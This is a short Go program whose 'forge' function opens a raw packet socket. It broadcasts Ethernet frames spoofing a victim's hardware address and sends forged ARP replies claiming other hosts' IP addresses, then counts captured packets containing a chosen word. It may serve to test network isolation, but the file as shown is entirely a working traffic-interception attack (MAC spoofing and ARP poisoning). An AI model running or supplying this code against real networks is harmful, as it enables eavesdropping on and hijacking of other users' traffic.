package main

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"net"
	"slices"
	"time"

	"golang.org/x/sys/unix"
)

// forge tries to be given what is meant for another: it says for a while that the addresses of the
// others are its own, and counts the packets it sees that hold a word.
func forge(args []string) {
	victim, err := net.ParseMAC(args[0])
	check(err)
	word, addresses := []byte(args[1]), args[2:]
	link, err := net.InterfaceByName("eth0")
	check(err)
	socket, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(bigEndian(unix.ETH_P_ALL)))
	check(err)
	check(unix.Bind(socket, &unix.SockaddrLinklayer{Protocol: bigEndian(unix.ETH_P_ALL), Ifindex: link.Index}))
	lies := [][]byte{frame(victim, 0x88b5, make([]byte, 46))} // from the other's hardware address
	for _, address := range addresses {
		lies = append(lies, frame(link.HardwareAddr, unix.ETH_P_ARP, arpReply(net.ParseIP(address), link.HardwareAddr)))
	}
	fmt.Println("forging")
	saw := 0
	for end := time.Now().Add(3 * time.Second); time.Now().Before(end); time.Sleep(time.Millisecond) {
		for _, lie := range lies {
			check(unix.Sendto(socket, lie, 0, &unix.SockaddrLinklayer{Ifindex: link.Index}))
		}
		saw += count(socket, word)
	}
	fmt.Println("saw", saw)
}

// count looks through the packets that are here.
func count(socket int, word []byte) (n int) {
	packet := make([]byte, 1<<16)
	for {
		size, _, err := unix.Recvfrom(socket, packet, unix.MSG_DONTWAIT)
		if err != nil {
			return n
		}
		if bytes.Contains(packet[:size], word) {
			n++
		}
	}
}

// frame is an Ethernet frame to everybody.
func frame(from net.HardwareAddr, kind uint16, body []byte) []byte {
	everybody := bytes.Repeat([]byte{0xff}, 6)
	return slices.Concat[[]byte](everybody, from, binary.BigEndian.AppendUint16(nil, kind), body)
}

// arpReply says that a hardware address has an IP address. Source: RFC 826.
func arpReply(ip net.IP, has net.HardwareAddr) []byte {
	return slices.Concat[[]byte]([]byte{0, 1, 8, 0, 6, 4, 0, 2}, has, ip.To4(), bytes.Repeat([]byte{0xff}, 6), ip.To4())
}

func bigEndian(n uint16) uint16 { return n<<8 | n>>8 }
